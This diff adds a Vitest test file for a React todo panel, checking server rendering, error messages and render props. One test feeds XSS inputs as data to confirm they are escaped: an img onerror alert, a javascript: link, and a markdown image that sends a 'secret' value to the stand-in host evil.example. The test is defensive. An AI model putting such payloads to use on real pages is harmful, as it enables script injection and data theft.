@@ -1,0 +1,62 @@
+import { createElement as h, type ReactElement } from 'react'
+import { renderToString } from 'react-dom/server'
+import { describe, expect, test } from 'vitest'
+import { emptyView, type TodoSource, type TodoView } from '../core/todo.ts'
+import { TodoPanel } from './TodoPanel.tsx'
+
+const saved: TodoView = {
+  ...emptyView,
+  persistence: 'saved',
+  todos: [{ id: 1, content: 'Read', status: 'pending', createdAt: 0 }],
+}
+
+const session: TodoSource = {
+  id: 's1',
+  store: { getState: () => saved, getInitialState: () => emptyView, subscribe: () => () => {} },
+}
+
+describe('on a server', () => {
+  test('a session renders as it was before anything was read', () => {
+    const html = renderToString(h(TodoPanel, { session }))
+    expect(html).toContain('Nothing planned yet')
+    expect(html).not.toContain('Read')
+  })
+
+  test('plain todos render as text', () => {
+    const content =
+      '<img src=x onerror=alert(1)> [a](javascript:alert(1)) ![p](https://evil.example/?q=secret)'
+    const html = renderToString(h(TodoPanel, { todos: [{ id: 1, content, status: 'pending' }] }))
+    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt; [a](javascript:alert(1)) ![p](https://evil')
+    expect(html).not.toMatch(/<(img|a|script)[ >]/)
+  })
+
+  test('the time of the current item is left to the client', () => {
+    const html = renderToString(
+      h(TodoPanel, { todos: [{ id: 1, content: 'Read', status: 'in_progress', startedAt: 0 }] }),
+    )
+    expect(html).toContain('class="todo-panel-aside"></span>')
+  })
+})
+
+test('a part outside of a panel says what to do', () => {
+  expect(() => renderToString(h(TodoPanel.Header))).toThrow(
+    '<TodoPanel.Header> has no panel. Put it inside <TodoPanel.Root>.',
+  )
+})
+
+test('a part can render another element with all that it would have given its own', () => {
+  const html = renderToString(
+    h(
+      TodoPanel.Root,
+      {
+        todos: [],
+        className: 'mine',
+        id: 'root',
+        render: ({ children, ...props }) => h('main', props, children),
+      },
+      h(TodoPanel.Empty, { render: (props): ReactElement => h('h2', props), style: { color: 'red' } }),
+    ),
+  )
+  expect(html).toMatch(/^<main [^>]*class="todo-panel mine"/)
+  expect(html).toContain('<h2 style="color:red" class="todo-panel-empty">')
+})
